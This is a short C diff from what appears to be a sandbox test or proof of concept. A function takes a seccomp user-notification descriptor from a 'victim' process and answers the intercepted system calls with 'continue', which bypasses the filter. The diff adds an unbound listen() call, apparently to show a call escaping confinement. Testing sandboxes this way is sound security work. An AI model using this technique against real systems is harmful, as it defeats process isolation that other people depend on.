@@ -125,7 +125,8 @@ static int IsNotifyFd(int fd) {
   return ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &none) != 0 && errno == ENOENT;
 }
 
-// Takes what the victim has: a listener, or the right to answer this process's own calls.
+// Takes what the victim has: a listener, or the right to answer this process's own calls. Of those some are forced
+// elsewhere, and listen without bind is not.
 void TakeFromVictim(char** arguments) {
   pthread_t thread;
   const pid_t victim = AwaitVictim();
@@ -143,6 +144,7 @@ void TakeFromVictim(char** arguments) {
     if (IsNotifyFd(taken)) {
       pthread_create(&thread, NULL, AnswerContinue, (void*)(long)taken);
       Place();
+      listen(socket(AF_INET, SOCK_STREAM, 0), kBacklog);
       break;
     }
   }
